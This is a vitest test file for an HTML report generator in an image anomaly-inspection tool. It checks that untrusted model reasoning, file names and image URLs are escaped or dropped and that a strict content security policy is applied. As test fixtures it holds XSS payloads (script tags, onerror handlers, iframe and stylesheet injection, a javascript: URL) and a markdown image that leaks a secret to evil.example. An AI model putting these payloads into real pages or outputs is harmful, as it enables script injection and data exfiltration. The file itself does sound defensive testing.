import { describe, expect, it } from 'vitest';
import { buildReportHtml, escapeHtml, type ReportCase, type ReportInput } from '@/core/export/report-html';
import { computeMetrics, curves } from '@/core/metrics/metrics';

// A tiny valid PNG (1×1) as a data URL, standing in for a downscaled input.
const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(2)">',
  '![leak](https://evil.example/p.png?k=secret)',
  '"><iframe src="https://evil.example"></iframe>',
  '</style><link rel=stylesheet href=https://evil.example/x.css>',
].join('\n');

function input(cases: ReportCase[]): ReportInput {
  return {
    projectName: 'Line 3 <washers>',
    generatedAt: Date.UTC(2026, 10, 23),
    run: { name: 'Offline baseline', detector: 'baseline', createdAt: Date.UTC(2026, 10, 23), caseCount: cases.length },
    prompt: { name: 'Washer inspection', version: 2, task: 'Decide <b>normal</b> or not', rules: [{ id: 'R1', text: 'Rim closed & round' }], classContexts: [{ className: 'washer', text: 'Steel washer' }] },
    metrics: computeMetrics([]),
    curves: curves([]),
    classReferences: { washer: [{ dataUrl: PNG }, { dataUrl: 'https://evil.example/ref.png' }] },
    cases,
  };
}

const hostileCase: ReportCase = { name: 'washer/test/<b>x</b>.png', className: 'washer', label: 'anomalous', defectType: 'scratch', status: 'ok', verdict: 'anomalous', score: 0.91, reasoning: HOSTILE, violatedRules: ['R1<script>'], input: { dataUrl: PNG }, heatmap: { dataUrl: 'javascript:alert(3)' } };

describe('HTML report', () => {
  const html = buildReportHtml(input([hostileCase, { name: 'ok.png', className: 'washer', label: 'normal', status: 'error', errorMessage: 'The endpoint refused <the> request.' }]));

  it('contains no script, no external URL in any attribute, and a CSP that forbids loading anything', () => {
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/<iframe/i);
    expect(html).not.toMatch(/<link/i);
    for (const tag of html.match(/<[a-z][^>]*>/gi) ?? []) expect(tag).not.toMatch(/\son\w+=/i);
    const srcs = [...html.matchAll(/\s(?:src|href)="([^"]*)"/g)].map((m) => m[1]);
    expect(srcs.length).toBeGreaterThan(0);
    for (const s of srcs) expect(s.startsWith('data:image/')).toBe(true);
    expect(html).toContain(`content="default-src 'none'; img-src data:; style-src 'unsafe-inline'"`);
  });

  it('shows hostile reasoning as visible text, escaped', () => {
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('&lt;img src=x onerror=&quot;alert(2)&quot;&gt;');
    expect(html).toContain('![leak](https://evil.example/p.png?k=secret)');
    expect(html).toContain('R1&lt;script&gt;');
    expect(html).toContain('washer/test/&lt;b&gt;x&lt;/b&gt;.png');
    expect(html).toContain('The endpoint refused &lt;the&gt; request.');
    expect(html).toContain('Line 3 &lt;washers&gt;');
  });

  it('drops images that are not data URLs of a known image type', () => {
    expect(html).not.toContain('evil.example/ref.png"');
    expect(html).not.toContain('javascript:');
    expect((html.match(/class="ref"/g) ?? []).length).toBe(1);
  });

  it('shows every image of a several-image case in a strip with its caption, unsafe ones dropped', () => {
    const video: ReportCase = { name: 'conveyor/test/bolt.webm', className: 'conveyor', label: 'anomalous', status: 'ok', verdict: 'anomalous', input: { dataUrl: PNG }, strip: [{ dataUrl: PNG, caption: 'frame 0, t = 0.000 s' }, { dataUrl: PNG, caption: 'frame 7, t = <0.875> s' }, { dataUrl: 'https://evil.example/f.png', caption: 'frame 9' }] };
    const out = buildReportHtml(input([video]));
    expect((out.match(/class="thumb"/g) ?? []).length).toBe(2);
    expect(out).toContain('2. frame 7, t = &lt;0.875&gt; s');
    expect(out).not.toContain('evil.example/f.png');
    // File names wrap at their slashes, not inside words.
    expect(out).toContain('conveyor/<wbr>test/<wbr>bolt.webm');
  });

  it('escapes every special character', () => {
    expect(escapeHtml(`<a href="x">'&'</a>`)).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
  });

  it('stays under 15 MB for 1,000 cases with 256 px JPEG inputs and heatmaps', () => {
    // Sizes measured in the sample project's report (e2e): input JPEG data URL ≈ 7.7 kB, heatmap PNG ≈ 4.1 kB.
    const jpeg = `data:image/jpeg;base64,${'A'.repeat(7_700)}`;
    const heat = `data:image/png;base64,${'B'.repeat(4_100)}`;
    const cases: ReportCase[] = Array.from({ length: 1000 }, (_, i) => ({ name: `part/test/${i}.png`, className: `class-${i % 10}`, label: 'normal', status: 'ok', verdict: 'normal', score: 0.1, reasoning: 'The rim is closed and the surface is clean. '.repeat(6), input: { dataUrl: jpeg }, heatmap: { dataUrl: heat } }));
    const bytes = new TextEncoder().encode(buildReportHtml(input(cases))).length;
    console.log(`report for 1,000 cases: ${(bytes / 1e6).toFixed(1)} MB`);
    expect(bytes).toBeLessThan(15e6);
    expect((buildReportHtml(input(cases)).match(/<article/g) ?? []).length).toBe(1000);
  });
});
